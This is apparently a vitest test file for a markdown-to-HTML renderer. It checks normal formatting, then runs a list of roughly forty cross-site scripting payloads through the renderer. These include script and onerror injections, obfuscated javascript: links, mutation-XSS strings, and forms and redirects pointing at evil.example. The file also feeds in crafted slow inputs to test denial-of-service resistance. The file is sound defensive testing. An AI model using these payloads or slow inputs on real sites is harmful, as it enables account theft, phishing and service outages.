import { parseFragment } from "parse5";
import { describe, expect, test } from "vitest";
import { renderMarkdown } from "./render-markdown.server.ts";

describe("what markdown is for", () => {
  test.each([
    ["Two **strong** words", "<p>Two <strong>strong</strong> words</p>"],
    ["one\ntwo", "<p>one<br />two</p>"],
    ["> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"],
    ["- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"],
    ["# Loud", "<p><strong>Loud</strong></p>"],
    ["[the bill](https://example.org/a?b=1&c=2)", '<p><a href="https://example.org/a?b=1&amp;c=2" rel="nofollow ugc">the bill</a></p>'],
    ["https://example.org", '<p><a href="https://example.org" rel="nofollow ugc">https://example.org</a></p>'],
    ["Section 2 < section 3 & more", "<p>Section 2 &lt; section 3 &amp; more</p>"],
  ])("%s", (typed, html) => {
    expect(renderMarkdown(typed)).toBe(html);
  });
  test("a picture becomes its description", () => {
    expect(renderMarkdown("![A hedgehog](https://example.org/h.png)")).toBe("<p>A hedgehog</p>");
  });
  test("HTML is shown as it was typed", () => {
    expect(renderMarkdown("Write <b>this</b>")).toBe("<p>Write &lt;b&gt;this&lt;/b&gt;</p>");
  });
});

/** Ways in which others have been attacked; each must come out as text, or not at all. */
const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<form action=https://evil.example><input name=password></form>",
  "<style>*{display:none}</style>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x]( javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example/a)",
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  "[a][1]\n\n[1]: javascript:alert(1)",
  "<javascript:alert(1)>",
  '![x](x"onerror="alert(1))',
  '!["onerror="alert(1)](x)',
  "![x](javascript:alert(1))",
  "`<img src=x onerror=alert(1)>`",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\n```',
  "<p>\n\n**a**\n\n<script>\nalert(1)\n</script>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
  "- [ ] <img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "# <img src=x onerror=alert(1)>",
  "[<img src=x onerror=alert(1)>](https://a.example)",
];

const allowedTags = new Set(["p", "br", "em", "strong", "del", "a", "ul", "ol", "li", "blockquote", "code", "pre", "hr"]);

describe("nothing that runs gets through", () => {
  test.each(attacks)("%s", (typed) => {
    for (const element of elementsOf(renderMarkdown(typed))) {
      expect(allowedTags).toContain(element.name);
      for (const [name, value] of element.attributes) {
        expect(["href", "rel", "start"]).toContain(name);
        if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      }
    }
  });
});

test.each([
  [">", 5000],
  ["> ", 2500],
  ["- ", 2500],
  ["1. ", 1600],
  ["[", 5000],
  ["*a ", 1600],
  ["**a", 1600],
  ["`", 4999],
  ["<", 5000],
  ["![](", 1250],
  ["[a](b)", 800],
  ["\\", 5000],
  ["_a_ ", 1250],
  ["a@b.", 1250],
  ["| a ", 1250],
])("a comment made of nothing but %j is shown without delay", (part, times) => {
  const started = performance.now();
  renderMarkdown(part.repeat(times));
  expect(performance.now() - started).toBeLessThan(2_000);
});

test.each([
  ["list", `${`-${" ".repeat(900)}`.repeat(5)}x`],
  ["numbered list", `${`1.${" ".repeat(900)}`.repeat(5)}x`],
  ["quotation", `${`>${" ".repeat(900)}`.repeat(5)}x`],
])("a %s with wide gaps does not stop the site for everyone", (_what, typed) => {
  const started = performance.now();
  renderMarkdown(typed);
  expect(performance.now() - started).toBeLessThan(500);
});

test("a comment made to be slow is worked out once, and not at every reader", () => {
  const typed = "**a*b_".repeat(1_600);
  const html = renderMarkdown(typed);
  const started = performance.now();
  for (let reader = 0; reader < 20; reader += 1) expect(renderMarkdown(typed)).toBe(html);
  expect(performance.now() - started).toBeLessThan(100);
});

type Node = { nodeName: string; tagName?: string; attrs?: { name: string; value: string }[]; childNodes?: Node[] };

function elementsOf(html: string): { name: string; attributes: [string, string][] }[] {
  const found: { name: string; attributes: [string, string][] }[] = [];
  const visit = (node: Node) => {
    if (node.tagName) found.push({ name: node.tagName, attributes: (node.attrs ?? []).map(({ name, value }) => [name, value]) });
    for (const child of node.childNodes ?? []) visit(child);
  };
  visit(parseFragment(html));
  return found;
}
